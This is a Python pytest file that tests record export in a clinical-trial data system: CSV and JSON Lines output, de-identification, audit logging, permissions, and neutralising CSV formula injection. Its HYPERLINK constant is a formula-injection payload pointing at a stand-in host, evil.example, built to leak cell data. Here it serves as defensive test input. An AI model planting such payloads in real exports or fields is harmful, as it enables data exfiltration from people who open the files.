"""Exporting records: one file per form, exact values, CSV injection neutralised, audited."""

from __future__ import annotations

import csv
import json
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from psotrial.audit import verify_audit
from psotrial.capture.enrolment import enrol
from psotrial.capture.entries import save_entry
from psotrial.capture.records import export_records, form_columns
from psotrial.db.models import AuditEvent
from psotrial.errors import FieldError, PermissionDenied
from psotrial.jsoncodec import loads_exact

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
CONMED = {
    "name": "Loratadine",
    "indication": HYPERLINK,
    "dose": 10.5,
    "dose_unit": "mg",
    "route": "oral",
    "start_date": "2026-03-05",
    "ongoing": True,
}


def populate(trial: Any, session: Any) -> None:
    """An enrolled participant (weight 74.9, a formula as a medication's indication) and a
    candidate."""
    forms = trial.screening_forms()
    forms["vital_signs"]["weight_kg"] = 74.9
    participant = trial.screen(session, forms)
    enrol(
        session,
        protocol=trial.protocol,
        actor=trial.actors["investigator"],
        participant=participant,
        first_infusion=date(2026, 3, 2),
        now=trial.now,
    )
    save_entry(
        session,
        protocol=trial.protocol,
        actor=trial.actors["coordinator"],
        participant=participant,
        visit="W0",
        form="concomitant_medication",
        data=CONMED,
        base_version=0,
        repeat=1,
        now=trial.now,
    )
    trial.screen(session)


def export(trial: Any, session: Any, out: Path, fmt: str, actor: str = "data_manager") -> Any:
    return export_records(
        session,
        protocol=trial.protocol,
        actor=trial.actors[actor],
        out_dir=out,
        fmt=fmt,
        now=trial.now,
    )


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_export_records_csv_one_file_per_form_with_exact_values(trial: Any, tmp_path: Path) -> None:
    out = tmp_path / "export"
    with trial.session() as session:
        populate(trial, session)
        paths = export(trial, session, out, "csv")
    screening = trial.protocol.visits[0].forms
    expected = [
        f"{f.code}.csv"
        for f in trial.protocol.forms
        if f.code in screening or f.code == "concomitant_medication"
    ]
    assert [p.name for p in paths] == expected
    assert sorted(p.name for p in out.iterdir()) == sorted(expected)  # no temporary files left

    with (out / "vital_signs.csv").open(encoding="utf-8", newline="") as handle:
        header = next(csv.reader(handle))
    assert tuple(header) == form_columns(trial.protocol.form("vital_signs"))
    vitals = read_csv(out / "vital_signs.csv")
    assert [
        (
            r["participant"],
            r["site"],
            r["visit"],
            r["repeat"],
            r["status"],
            r["version"],
            r["weight_kg"],
            r["temperature_c"],
        )
        for r in vitals
    ] == [
        ("GZ01-001", "GZ01", "SCR", "0", "complete", "1", "74.9", "36.6"),
        ("GZ01-S002", "GZ01", "SCR", "0", "complete", "1", "61.5", "36.6"),
    ]
    demographics = read_csv(out / "demographics.csv")[0]
    # Born 1981-07-09: generalised to the same age (44) on the screening date, 2026-02-23.
    assert (demographics["birth_date"], demographics["sex"], demographics["height_cm"]) == (
        "1982-02-23",
        "F",
        "162",
    )
    therapies = read_csv(out / "prior_therapies.csv")[0]
    assert (
        therapies["topical_last_date"],
        therapies["systemic_last_date"],
        therapies["other_trial_current"],
    ) == ("2026-01-10", "", "false")
    labs = read_csv(out / "labs.csv")[0]
    assert (labs["CA_value"], labs["CA_unit"], labs["CA_lln"], labs["CA_uln"]) == (
        "2.35",
        "mmol/L",
        "2.11",
        "2.52",
    )
    conmed = read_csv(out / "concomitant_medication.csv")
    assert [
        (
            r["participant"],
            r["visit"],
            r["repeat"],
            r["dose"],
            r["start_date"],
            r["end_date"],
            r["ongoing"],
        )
        for r in conmed
    ] == [("GZ01-001", "W0", "1", "10.5", "2026-03-05", "", "true")]


def test_export_records_jsonl_keeps_types_and_column_order(trial: Any, tmp_path: Path) -> None:
    with trial.session() as session:
        populate(trial, session)
        export(trial, session, tmp_path, "jsonl")
    lines = (tmp_path / "vital_signs.jsonl").read_text(encoding="utf-8").splitlines()
    rows = [loads_exact(line) for line in lines]
    assert list(rows[0]) == list(form_columns(trial.protocol.form("vital_signs")))
    assert (rows[0]["participant"], rows[0]["repeat"], rows[0]["weight_kg"]) == (
        "GZ01-001",
        0,
        Decimal("74.9"),
    )
    assert '"weight_kg": 74.9' in lines[0]
    therapies = loads_exact(
        (tmp_path / "prior_therapies.jsonl").read_text(encoding="utf-8").splitlines()[0]
    )
    assert (
        therapies["topical_last_date"],
        therapies["systemic_last_date"],
        therapies["other_trial_current"],
    ) == ("2026-01-10", None, False)
    conmed = json.loads(
        (tmp_path / "concomitant_medication.jsonl").read_text(encoding="utf-8").splitlines()[0]
    )
    assert conmed["indication"] == HYPERLINK  # JSON Lines is not run by spreadsheets


def test_export_records_csv_neutralises_formulas(trial: Any, tmp_path: Path) -> None:
    with trial.session() as session:
        populate(trial, session)
        export(trial, session, tmp_path, "csv")
    rows = read_csv(tmp_path / "concomitant_medication.csv")
    assert [r["indication"] for r in rows] == ["'" + HYPERLINK]
    # The investigator's name is withheld (psotrial.capture.deidentify.IDENTIFYING_ITEMS).
    confirmations = read_csv(tmp_path / "eligibility_confirmation.csv")
    assert {r["investigator"] for r in confirmations} == {"withheld on export"}


def test_export_records_is_an_audit_event(trial: Any, tmp_path: Path) -> None:
    with trial.session() as session:
        populate(trial, session)
        paths = export(trial, session, tmp_path, "jsonl")
        event = session.scalars(select(AuditEvent).where(AuditEvent.action == "export")).one()
        rows = sum(len(p.read_text(encoding="utf-8").splitlines()) for p in paths)
        assert (event.actor, event.entity) == ("data_manager", "study")
        assert loads_exact(event.new_value) == {
            "format": "jsonl",
            "files": [p.name for p in paths],
            "rows": rows,
            "masked": 0,
        }
        assert verify_audit(session).ok


def test_export_records_refuses_unknown_format(trial: Any, tmp_path: Path) -> None:
    with trial.session() as session:
        populate(trial, session)
        before = session.scalar(select(func.count()).select_from(AuditEvent))
        with pytest.raises(FieldError, match="csv, jsonl") as caught:
            export(trial, session, tmp_path / "out", "xml")
        assert caught.value.field == "format"
        assert session.scalar(select(func.count()).select_from(AuditEvent)) == before
    assert not (tmp_path / "out").exists()


def test_export_records_needs_export_permission(trial: Any, tmp_path: Path) -> None:
    with trial.session() as session:
        populate(trial, session)
        with pytest.raises(PermissionDenied, match="data_manager, statistician"):
            export(trial, session, tmp_path, "csv", actor="coordinator")
        export(trial, session, tmp_path, "csv", actor="statistician")


def test_export_records_replaces_an_earlier_export(trial: Any, tmp_path: Path) -> None:
    (tmp_path / "itch.csv").write_text("stale\n", encoding="utf-8")
    with trial.session() as session:
        populate(trial, session)
        export(trial, session, tmp_path, "csv")
    assert [r["vas_mm"] for r in read_csv(tmp_path / "itch.csv")] == ["62", "62"]
